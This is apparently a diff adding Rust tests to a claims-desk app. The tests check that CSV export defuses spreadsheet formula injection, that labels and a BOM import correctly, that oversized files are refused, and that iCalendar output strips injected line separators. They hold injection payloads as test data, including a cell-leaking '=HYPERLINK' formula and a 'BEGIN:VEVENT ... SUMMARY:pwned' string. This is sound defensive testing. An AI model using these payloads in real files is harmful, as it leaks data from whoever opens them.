@@ -470,3 +470,275 @@ fn the_limits_in_the_messages_are_the_constants() {
     assert!(Code::ClaimTooLarge.message(Locale::En).contains("4 MB"));
     assert_eq!(MAX_CLAIM_BYTES, 4 * 1024 * 1024);
 }
+
+// ------------------------------------------- 3. CSV formula injection
+
+mod csv_injection {
+    use super::*;
+    use cpor_desk::domain::bulk::{
+        CSV_BOM, ImportContext, claims_to_csv, claims_to_csv_in, defuse_formula, parse_claims_csv,
+        restore_formula,
+    };
+    use cpor_desk::domain::finding::Locale;
+    use proptest::prelude::*;
+
+    const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+    /// The cells of a CSV text, split here independently of the app's
+    /// reader (RFC 4180: quotes doubled, quoted CR/LF kept).
+    fn cells(text: &str) -> Vec<String> {
+        let text = text.strip_prefix(CSV_BOM).unwrap_or(text);
+        let mut out = Vec::new();
+        let mut cell = String::new();
+        let mut quoted = false;
+        let mut chars = text.chars().peekable();
+        while let Some(c) = chars.next() {
+            match (quoted, c) {
+                (true, '"') if chars.peek() == Some(&'"') => {
+                    chars.next();
+                    cell.push('"');
+                }
+                (true, '"') => quoted = false,
+                (true, c) => cell.push(c),
+                (false, '"') => quoted = true,
+                (false, ',') => out.push(std::mem::take(&mut cell)),
+                (false, '\r') if chars.peek() == Some(&'\n') => {
+                    chars.next();
+                    out.push(std::mem::take(&mut cell));
+                }
+                (false, c) => cell.push(c),
+            }
+        }
+        out
+    }
+
+    fn import(text: &str) -> cpor_desk::domain::bulk::CsvImport {
+        let policy = Policy::default();
+        let org = PartnerOrgRef {
+            id: "northwind".into(),
+            name: "Northwind Traders".into(),
+        };
+        let ctx = ImportContext::new(partner(), org, now(), &policy);
+        let mut n = 0;
+        parse_claims_csv(text, &ctx, &mut || {
+            n += 1;
+            format!("00000000-0000-4000-8000-{n:012}")
+        })
+    }
+
+    fn value() -> impl Strategy<Value = String> {
+        let piece = prop_oneof![
+            prop::sample::select(vec![
+                "=",
+                "+",
+                "-",
+                "@",
+                "\t",
+                "\r",
+                "'",
+                "''",
+                "\"",
+                ",",
+                "\n",
+                " ",
+                "=HYPERLINK(\"http://x?\"&A2,\"Click me\")",
+                "SUM(1)",
+                "46 8 123"
+            ])
+            .prop_map(str::to_string),
+            "[a-zA-Z0-9åäö ]{1,6}",
+            any::<String>(),
+        ];
+        prop::collection::vec(piece, 0..6).prop_map(|p| p.concat())
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(2000))]
+
+        /// #18.3: defusing is exactly undone, and a defused cell never
+        /// starts with a character a spreadsheet takes for a formula.
+        #[test]
+        fn defusing_round_trips_and_leaves_no_trigger_first(v in value()) {
+            let cell = defuse_formula(&v);
+            prop_assert!(!cell.starts_with(TRIGGERS), "{:?}", cell);
+            prop_assert_eq!(restore_formula(&cell), v.as_str());
+        }
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(300))]
+
+        /// #18.3: through a whole export and import: no exported cell starts
+        /// with a trigger, and the claims come back exactly.
+        #[test]
+        fn exported_cells_are_safe_and_import_back_exactly(
+            name in value(), customer in value(), contact in value(), phone in value(),
+        ) {
+            let mut c = claim("0b6f2c1e-7d1a-4c57-9a57-3f8e4b1d2a10");
+            c.name = name.chars().take(100).collect();
+            c.customer_name = customer;
+            c.customer_contact.name = contact;
+            c.partner_contact.phone = Some(phone);
+            let csv = claims_to_csv(std::slice::from_ref(&c), now(), &Policy::default());
+            for cell in cells(&csv) {
+                prop_assert!(!cell.starts_with(TRIGGERS), "{:?}", cell);
+            }
+            let back = import(&csv);
+            prop_assert_eq!(back.claims.len(), 1);
+            let got = &back.claims[0].claim;
+            prop_assert_eq!(&got.name, &c.name);
+            prop_assert_eq!(&got.customer_name, &c.customer_name);
+            prop_assert_eq!(&got.customer_contact.name, &c.customer_contact.name);
+            // A blank phone reads back as none.
+            let phone = c.partner_contact.phone.filter(|p| !p.trim().is_empty());
+            prop_assert_eq!(&got.partner_contact.phone, &phone);
+        }
+    }
+
+    /// #18.3: the payloads of the attack, cell by cell.
+    #[test]
+    fn the_attack_payloads_are_written_as_text() {
+        let mut c = claim("0b6f2c1e-7d1a-4c57-9a57-3f8e4b1d2a10");
+        c.name = "=HYPERLINK(\"http://127.0.0.1/?\"&A2,\"Click me\")".into();
+        c.customer_name = "@SUM(1+1)".into();
+        c.customer_contact.name = "=1+2".into();
+        c.partner_contact.name = "\tTAB".into();
+        c.partner_location = "+1+1".into();
+        c.tenant_id = "-2+3".into();
+        let csv = claims_to_csv(&[c], now(), &Policy::default());
+        let row = csv.split("\r\n").nth(1).unwrap();
+        for cell in [
+            "\"'=HYPERLINK(\"\"http://127.0.0.1/?\"\"&A2,\"\"Click me\"\")\"",
+            "'@SUM(1+1)",
+            "'=1+2",
+            "'\tTAB",
+            "'+1+1",
+            "'-2+3",
+            "'+46 8 123 456",
+        ] {
+            assert!(row.contains(&format!(",{cell},")), "{cell} in {row}");
+        }
+    }
+
+    /// #14.12: a BOM first (Excel on Windows), labels in the partner's
+    /// language beside the codes, and a file that keeps only the labels
+    /// (in Swedish) still imports.
+    #[test]
+    fn labels_and_bom_and_a_labels_only_file_imports() {
+        let c = claim("0b6f2c1e-7d1a-4c57-9a57-3f8e4b1d2a10");
+        let csv = claims_to_csv_in(
+            std::slice::from_ref(&c),
+            now(),
+            &Policy::default(),
+            Locale::Sv,
+        );
+        assert!(csv.starts_with('\u{feff}'));
+        let header: Vec<&str> = csv
+            .split("\r\n")
+            .next()
+            .unwrap()
+            .trim_start_matches('\u{feff}')
+            .split(',')
+            .collect();
+        let row = cells(&csv);
+        let at =
+            |col: &str| row[header.len() + header.iter().position(|h| *h == col).unwrap()].clone();
+        assert_eq!(at("status_label"), "Redigering");
+        assert_eq!(at("solution_area_label"), "Modernt arbete och säkerhet");
+        assert_eq!(at("partner_role_label"), "Använda eller konsumera");
+        assert_eq!(at("product_label"), "Microsoft Teams");
+        // Only the labels: the code columns dropped.
+        let keep: Vec<usize> = header
+            .iter()
+            .enumerate()
+            .filter(|(_, h)| !["status", "solution_area", "partner_role", "product"].contains(h))
+            .map(|(i, _)| i)
+            .collect();
+        let line = |cells: &[String]| {
+            keep.iter()
+                .map(|&i| format!("\"{}\"", cells[i].replace('"', "\"\"")))
+                .collect::<Vec<_>>()
+                .join(",")
+        };
+        let head: Vec<String> = header.iter().map(|h| h.to_string()).collect();
+        let labels_only = format!("{}\r\n{}\r\n", line(&head), line(&row[header.len()..]));
+        let back = import(&labels_only);
+        assert!(back.claims[0].importable, "{:?}", back.findings);
+        let got = &back.claims[0].claim;
+        assert_eq!(got.solution_area.as_deref(), Some("modern_work_security"));
+        assert_eq!(got.partner_role.as_deref(), Some("use_or_consume"));
+        assert_eq!(got.products, [ProductLine::new("teams")]);
+        // Labels in any letter case and the other language work in the code column too.
+        let en = csv.replace(",modern_work_security,", ",MODERN WORK AND SECURITY,");
+        assert_eq!(
+            import(&en).claims[0].claim.solution_area.as_deref(),
+            Some("modern_work_security")
+        );
+    }
+
+    /// #18.5: a CSV with more than 20,000 rows is refused whole, and a huge
+    /// cell is cut and reported instead of kept (a 100 MB field crashed the
+    /// tab).
+    #[test]
+    fn a_csv_too_long_or_with_a_huge_cell_is_refused() {
+        let mut text = String::from("claim_name,customer_domain,tenant_id,product\r\n");
+        for i in 0..=intake::MAX_CSV_ROWS {
+            text.push_str(&format!(
+                "Claim {i},contoso.com,1d38bbea-e8d8-407c-9c74-bee089c92c07,teams\r\n"
+            ));
+        }
+        let r = import(&text);
+        assert!(r.claims.is_empty());
+        assert_eq!(r.findings.last().unwrap().code(), Code::CsvTooManyRows);
+
+        let huge = format!(
+            "claim_name,customer_domain,tenant_id,product\r\n\"{}\",contoso.com,x,teams\r\n",
+            "A".repeat(5_000_000)
+        );
+        let r = import(&huge);
+        assert!(!r.claims[0].importable);
+        assert!(r.claims[0].claim.name.len() <= intake::MAX_NOTE_CHARS);
+        assert!(
+            r.findings
+                .iter()
+                .any(|f| f.field() == "claim_name" && f.code() == Code::TextTooLong)
+        );
+    }
+}
+
+// ------------------------------------------------------ 6. iCalendar
+
+/// #18.6: U+2028, U+2029 and C1 controls in a name were written raw, so a
+/// reader that splits lines on them saw injected properties.
+#[test]
+fn icalendar_text_drops_line_separators_and_c1_controls() {
+    use cpor_desk::domain::bulk::deadlines_calendar;
+    use cpor_desk::domain::claim::{Action, HistoryEntry};
+    use cpor_desk::domain::finding::Locale;
+    let mut c = claim("c1");
+    c.name = "Rollout\u{2028}BEGIN:VEVENT\u{2029}SUMMARY:pwned\u{85}\u{9b}x".into();
+    c.status = Status::Submitted;
+    c.history.push(HistoryEntry {
+        at: now().to_utc(),
+        actor: partner(),
+        action: Action::Submitted,
+        from: Some(Status::Draft),
+        to: Some(Status::Submitted),
+        changes: vec![],
+    });
+    let cal = deadlines_calendar(&[c], now(), &Policy::default(), Locale::En);
+    assert_eq!(cal.events, 1);
+    for bad in ['\u{2028}', '\u{2029}', '\u{85}', '\u{9b}'] {
+        assert!(!cal.text.contains(bad), "{bad:?}");
+    }
+    assert!(
+        cal.text
+            .contains("SUMMARY:Review starts: RolloutBEGIN:VEVENTSUMMARY:pwnedx")
+    );
+    assert_eq!(cal.text.matches("\r\nBEGIN:VEVENT\r\n").count(), 1);
+    // No open deadline: no event (the app then says so, no download).
+    assert_eq!(
+        deadlines_calendar(&[claim("c2")], now(), &Policy::default(), Locale::En).events,
+        0
+    );
+}
